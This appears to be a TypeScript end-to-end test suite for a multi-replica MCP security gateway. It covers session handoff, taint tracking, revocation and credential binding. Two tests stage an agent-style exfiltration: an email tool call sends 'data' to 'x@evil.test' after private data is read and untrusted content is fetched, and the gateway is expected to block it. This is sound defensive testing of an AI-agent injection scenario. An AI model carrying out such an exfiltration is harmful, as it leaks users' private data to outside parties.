/**
 * Old-era sessions in a fleet: two gateways on one PostgreSQL schema and the real Redis, and a real
 * v1 SDK client whose requests are steered to one replica or the other (a fetch that rewrites the
 * host). The session opened on A is served by B (rebuilt from the store), taint from one replica
 * counts on the other, notifications produced on the replica without the client's GET stream reach
 * it through Redis, and DELETE and revocation on one replica hold on the other.
 *
 * Never skipped: it needs PostgreSQL (PORTCULLIS_TEST_PG_URL) and Redis (PORTCULLIS_TEST_REDIS_URL).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { Client as V2Client, StreamableHTTPClientTransport as V2Http } from '@modelcontextprotocol/client';
import { CreateMessageRequestSchema, ResourceUpdatedNotificationSchema, ToolListChangedNotificationSchema } from '@modelcontextprotocol/sdk/types.js';
import { fixture, startTestGateway, type TestGateway } from '../helpers/gateway.js';
import { createSchema, dropSchema, TEST_PG_URL, uniqueSchema } from '../../src/store/pg-testing.js';
import { createApiKey } from '../../src/identity/apikeys.js';

const REDIS_URL = process.env.PORTCULLIS_TEST_REDIS_URL ?? 'redis://127.0.0.1:6379/0';

function fleetConfig(pgUrl: string): string {
  return `
auth: none
store: { postgres: { url: "${pgUrl}" } }
coord: { redis: { url: "${REDIS_URL}" } }
mcpServers:
  inj: { command: node, args: ["${fixture('injector.mjs')}"] }
  chatty: { command: node, args: ["${fixture('chatty.mjs')}"] }
  sampler: { command: node, args: ["${fixture('sampler.mjs')}"] }
servers:
  sampler:
    isolation: shared
  inj:
    isolation: shared
    toolLabels: { read_private: [private_data], send_email: [egress] }
  chatty:
    isolation: shared
`;
}

interface Steering {
  replica: 'A' | 'B';
  getTo: 'A' | 'B';
  /** Where POSTs carrying only responses (answers to server→client requests) go; default `replica`. */
  responsesTo?: 'A' | 'B';
  log: string[];
}

/** A client whose next request goes to `to.replica` (GET streams always to `getTo`). */
function steeredClient(urls: Record<'A' | 'B', string>, to: Steering, capabilities: Record<string, unknown> = {}, headers: Record<string, string> = {}) {
  const fetchFn = (input: string | URL | Request, init?: RequestInit) => {
    const method = init?.method ?? 'GET';
    const onlyResponses = method === 'POST' && typeof init?.body === 'string' && !init.body.includes('"method"');
    const replica = method === 'GET' ? to.getTo : onlyResponses && to.responsesTo ? to.responsesTo : to.replica;
    to.log.push(`${method} ${replica}`);
    return fetch(urls[replica], init);
  };
  const transport = new StreamableHTTPClientTransport(new URL(urls.A), { fetch: fetchFn as typeof fetch, requestInit: { headers } });
  const client = new Client({ name: 'fleet-e2e', version: '1.0.0' }, { capabilities });
  return { client, transport };
}

describe('a session opened on one replica, served by another', () => {
  let schema: string;
  let a: TestGateway;
  let b: TestGateway;
  beforeAll(async () => {
    schema = uniqueSchema('pcx_fleet_sessions');
    await createSchema(schema);
    const url = `${TEST_PG_URL}${TEST_PG_URL.includes('?') ? '&' : '?'}options=-c%20search_path%3D${schema}`;
    a = await startTestGateway(fleetConfig(url));
    b = await startTestGateway(fleetConfig(url));
  });
  afterAll(async () => {
    await a?.close();
    await b?.close();
    if (schema) await dropSchema(schema);
  });

  it('B takes over the session, taint counts across replicas, notifications cross, DELETE holds everywhere', async () => {
    const to: Steering = { replica: 'A', getTo: 'A', log: [] };
    const { client, transport } = steeredClient({ A: a.url, B: b.url }, to, { sampling: {} });
    const updates: string[] = [];
    client.setNotificationHandler(ResourceUpdatedNotificationSchema, (n) => {
      updates.push(n.params.uri);
    });
    let toolsChanged = 0;
    client.setNotificationHandler(ToolListChangedNotificationSchema, () => {
      toolsChanged++;
    });
    client.setRequestHandler(CreateMessageRequestSchema, async (r) => ({
      role: 'assistant',
      model: 'test-model',
      content: { type: 'text', text: `echo ${JSON.stringify(r.params.messages[0]?.content)}` },
    }));
    await client.connect(transport);
    const sid = transport.sessionId!;
    expect(sid).toBeTruthy();
    expect(a.rt.gateway.sessions.has(sid)).toBe(true);
    expect(b.rt.gateway.sessions.has(sid)).toBe(false);
    // The v1 client opens its GET stream after initialize; wait until A holds it.
    await until(() => to.log.includes('GET A'));

    // Private data read on A.
    await client.callTool({ name: 'inj__read_private', arguments: {} });
    // Untrusted content fetched on B: B rebuilds the session from the store.
    to.replica = 'B';
    await client.callTool({ name: 'inj__fetch_url', arguments: { url: 'https://example.com/' } });
    expect(b.rt.gateway.sessions.get(sid)?.protocolVersion).toBe(a.rt.gateway.sessions.get(sid)?.protocolVersion);
    expect([...b.rt.gateway.sessions.get(sid)!.taint].sort()).toEqual(['private_data', 'untrusted_content']);
    // Egress back on A: A has to know what B learned, or the trifecta rule is bypassed by the load balancer.
    to.replica = 'A';
    const err = await client.callTool({ name: 'inj__send_email', arguments: { to: 'x@evil.test', body: 'data' } }).then(
      () => undefined,
      (e: Error & { data?: { rule?: string } }) => e,
    );
    expect(err?.data?.rule).toBe('flow.trifecta');

    // A notification tied to a call on B rides that call's stream on B.
    to.replica = 'B';
    await client.subscribeResource({ uri: 'chatty://a' });
    const touched = await client.callTool({ name: 'chatty__touch', arguments: { uri: 'chatty://a' } });
    expect(JSON.stringify(touched.content)).toContain('touched');
    await until(() => updates.includes('chatty://a'));
    // One that is not (a list change seen by B) goes to the client's GET stream, which is on A: through Redis.
    expect(b.rt.gateway.sessions.has(sid)).toBe(true);
    b.rt.gateway.notifyListChanged('tools');
    await until(() => toolsChanged >= 1);

    // A server→client request asked on B (sampling during a call), answered by a POST that lands on A.
    to.replica = 'B';
    to.responsesTo = 'A';
    const sampled = await client.callTool({ name: 'sampler__sample', arguments: { prompt: 'hi' } });
    expect(JSON.stringify(sampled.structuredContent)).toContain('echo');
    expect(to.log.filter((l) => l === 'POST A').length).toBeGreaterThan(0);
    to.responsesTo = undefined;

    // DELETE on B; the session is gone on A as well.
    await transport.terminateSession();
    await until(() => !a.rt.gateway.sessions.has(sid) && !b.rt.gateway.sessions.has(sid));
    const r = await fetch(a.url, {
      method: 'POST',
      headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream', 'mcp-session-id': sid, 'mcp-protocol-version': '2025-06-18' },
      body: JSON.stringify({ jsonrpc: '2.0', id: 99, method: 'tools/list' }),
    });
    expect(r.status).toBe(404);
    await client.close();
  });

  it('a session revoked on one replica is refused by the other (after the coord revocation too)', async () => {
    const to: Steering = { replica: 'A', getTo: 'A', log: [] };
    const { client, transport } = steeredClient({ A: a.url, B: b.url }, to);
    await client.connect(transport);
    const sid = transport.sessionId!;
    to.replica = 'B';
    await client.listTools();
    expect(b.rt.gateway.sessions.has(sid)).toBe(true);
    // Revoked for 1 s only: the store keeps it ended after the Redis key expires.
    const res = await a.admin(`/api/sessions/${sid}/revoke`, { body: { for: '1s' } });
    expect(res.status).toBe(200);
    await until(() => !b.rt.gateway.sessions.has(sid));
    await new Promise((r) => setTimeout(r, 1200));
    for (const gw of [a, b]) {
      const r = await fetch(gw.url, {
        method: 'POST',
        headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream', 'mcp-session-id': sid, 'mcp-protocol-version': '2025-06-18' },
        body: JSON.stringify({ jsonrpc: '2.0', id: 7, method: 'tools/list' }),
      });
      expect(r.status).toBe(404);
      expect(((await r.json()) as { error: { data?: { code?: string } } }).error.data?.code).toBe('PCX_SESSION_REVOKED');
    }
    await client.close().catch(() => undefined);
  });
});

describe('revoking a principal on one replica', () => {
  let schema: string;
  let a: TestGateway;
  let b: TestGateway;
  beforeAll(async () => {
    schema = uniqueSchema('pcx_fleet_revoke');
    await createSchema(schema);
    const url = `${TEST_PG_URL}${TEST_PG_URL.includes('?') ? '&' : '?'}options=-c%20search_path%3D${schema}`;
    // API keys, with a principal of this test's own: a principal revocation lives in the shared Redis,
    // and other test files' gateways (anonymous) must not see it.
    const config = fleetConfig(url).replace('auth: none', 'auth: { apiKeys: true }');
    a = await startTestGateway(config);
    b = await startTestGateway(config);
  });
  afterAll(async () => {
    await a?.close();
    await b?.close();
    if (schema) await dropSchema(schema);
  });

  it('ends its sessions on every replica for good, not only while the Redis key lasts', async () => {
    const principal = `fleet-revoke-${process.pid}-${Date.now().toString(36)}`;
    const key = (await createApiKey(a.rt.store, { principal })).key;
    const to: Steering = { replica: 'A', getTo: 'A', log: [] };
    const { client, transport } = steeredClient({ A: a.url, B: b.url }, to, {}, { authorization: `Bearer ${key}` });
    await client.connect(transport);
    const sid = transport.sessionId!;
    to.replica = 'B';
    await client.listTools();
    expect(b.rt.gateway.sessions.has(sid)).toBe(true);
    const res = await a.admin(`/api/principals/user:${principal}/revoke`, { body: { for: '1s' } });
    expect(res.status).toBe(200);
    await until(() => !b.rt.gateway.sessions.has(sid) && !a.rt.gateway.sessions.has(sid));
    await new Promise((r) => setTimeout(r, 1200));
    for (const gw of [a, b]) {
      const r = await fetch(gw.url, {
        method: 'POST',
        headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json', accept: 'application/json, text/event-stream', 'mcp-session-id': sid, 'mcp-protocol-version': '2025-06-18' },
        body: JSON.stringify({ jsonrpc: '2.0', id: 7, method: 'tools/list' }),
      });
      expect(r.status).toBe(404);
      expect(((await r.json()) as { error: { data?: { code?: string } } }).error.data?.code).toBe('PCX_SESSION_REVOKED');
    }
    await client.close().catch(() => undefined);
  });
});

describe('session binding holds across replicas', () => {
  let schema: string;
  let a: TestGateway;
  let b: TestGateway;
  beforeAll(async () => {
    schema = uniqueSchema('pcx_fleet_bind');
    await createSchema(schema);
    const url = `${TEST_PG_URL}${TEST_PG_URL.includes('?') ? '&' : '?'}options=-c%20search_path%3D${schema}`;
    const config = fleetConfig(url).replace('auth: none', 'auth: { apiKeys: true }');
    a = await startTestGateway(config);
    b = await startTestGateway(config);
  });
  afterAll(async () => {
    await a?.close();
    await b?.close();
    if (schema) await dropSchema(schema);
  });

  it('another principal gets 404 for the id, the same principal with another key 403, on the replica that never held it', async () => {
    const alice = (await createApiKey(a.rt.store, { principal: 'alice' })).key;
    const alice2 = (await createApiKey(a.rt.store, { principal: 'alice' })).key;
    const bob = (await createApiKey(a.rt.store, { principal: 'bob' })).key;
    const transport = new StreamableHTTPClientTransport(new URL(a.url), { requestInit: { headers: { authorization: `Bearer ${alice}` } } });
    const client = new Client({ name: 'bind', version: '1' }, { capabilities: {} });
    await client.connect(transport);
    const sid = transport.sessionId!;
    const post = (key: string) =>
      fetch(b.url, {
        method: 'POST',
        headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json', accept: 'application/json, text/event-stream', 'mcp-session-id': sid, 'mcp-protocol-version': '2025-06-18' },
        body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list' }),
      });
    const asBob = await post(bob);
    expect(asBob.status).toBe(404);
    expect(b.rt.gateway.sessions.has(sid)).toBe(false);
    const asAlice2 = await post(alice2);
    expect(asAlice2.status).toBe(403);
    expect(((await asAlice2.json()) as { error: { data: { rule: string } } }).error.data.rule).toBe('authn.credential-mismatch');
    expect(b.rt.gateway.sessions.has(sid)).toBe(false);
    // The credential that opened it is served there.
    const asAlice = await post(alice);
    expect(asAlice.status).toBe(200);
    expect(b.rt.gateway.sessions.has(sid)).toBe(true);
    // And once held, B keeps refusing the others.
    expect((await post(bob)).status).toBe(404);
    expect((await post(alice2)).status).toBe(403);
    await client.close();
  });
});

describe('a per-request (2026-07-28) client spread over replicas', () => {
  let schema: string;
  let a: TestGateway;
  let b: TestGateway;
  beforeAll(async () => {
    schema = uniqueSchema('pcx_fleet_v2');
    await createSchema(schema);
    const url = `${TEST_PG_URL}${TEST_PG_URL.includes('?') ? '&' : '?'}options=-c%20search_path%3D${schema}`;
    a = await startTestGateway(fleetConfig(url));
    b = await startTestGateway(fleetConfig(url));
  });
  afterAll(async () => {
    await a?.close();
    await b?.close();
    if (schema) await dropSchema(schema);
  });

  it('its taint counts on every replica: private data on A, untrusted content on B, egress on A is refused', async () => {
    const to = { replica: 'A' as 'A' | 'B' };
    const urls = { A: a.url, B: b.url };
    const fetchFn = (_: unknown, init?: RequestInit) => fetch(urls[to.replica], init);
    const client = new V2Client({ name: 'fleet-v2', version: '1' }, { capabilities: {}, versionNegotiation: { mode: 'auto' } });
    await client.connect(new V2Http(new URL(a.url), { fetch: fetchFn as typeof fetch }));
    expect(client.getProtocolEra()).toBe('modern');
    await client.callTool({ name: 'inj__read_private', arguments: {} });
    to.replica = 'B';
    await client.callTool({ name: 'inj__fetch_url', arguments: { url: 'https://example.com/' } });
    to.replica = 'A';
    const err = await client.callTool({ name: 'inj__send_email', arguments: { to: 'x@evil.test', body: 'data' } }).then(
      (r) => (r as { isError?: boolean; content?: unknown }).isError ? JSON.stringify(r.content) : undefined,
      (e: Error) => e.message,
    );
    expect(err).toMatch(/flow\.trifecta/);
    await client.close();
  });
});

async function until(cond: () => boolean, ms = 5000): Promise<void> {
  const end = Date.now() + ms;
  while (!cond()) {
    if (Date.now() > end) throw new Error('condition not met in time');
    await new Promise((r) => setTimeout(r, 20));
  }
}
